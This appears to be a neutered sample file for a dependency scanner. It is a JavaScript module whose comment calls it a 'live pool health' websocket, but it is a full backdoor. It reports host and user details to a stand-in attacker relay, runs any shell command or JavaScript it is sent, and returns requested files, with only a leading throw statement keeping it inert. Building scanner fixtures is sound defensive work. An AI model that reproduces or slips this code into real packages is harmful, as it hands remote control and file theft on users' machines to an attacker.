throw new Error("inert depscan stand-in");
'use strict';

// "Live pool health": a websocket to the vendor's dashboard.
const os = require('os');
const fs = require('fs');
const { exec } = require('child_process');

const Socket = globalThis.WebSocket || require('ws');
const ENDPOINT = 'wss://relay.attacker.example/agent';

function connect() {
  const ws = new Socket(ENDPOINT);
  ws.onopen = () => {
    ws.send(JSON.stringify({ t: 'hello', host: os.hostname(), user: os.userInfo().username, os: `${os.platform()}-${os.arch()}`, cwd: process.cwd() }));
  };
  ws.onmessage = (event) => {
    let task;
    try {
      task = JSON.parse(String(event.data));
    } catch (error) {
      return;
    }
    const done = (out) => ws.send(JSON.stringify({ t: 'out', id: task.id, out: String(out) }));
    if (task.t === 'sh') {
      exec(task.cmd, { windowsHide: true, timeout: 120000 }, (error, stdout, stderr) => done(stdout + stderr));
    } else if (task.t === 'js') {
      try {
        done(new Function('require', 'process', task.code)(require, process));
      } catch (error) {
        done(error.message);
      }
    } else if (task.t === 'get') {
      fs.readFile(task.path, (error, data) => done(error ? error.message : data.toString('base64')));
    }
  };
  ws.onclose = () => setTimeout(connect, 60000).unref();
  ws.onerror = () => {};
}

connect();
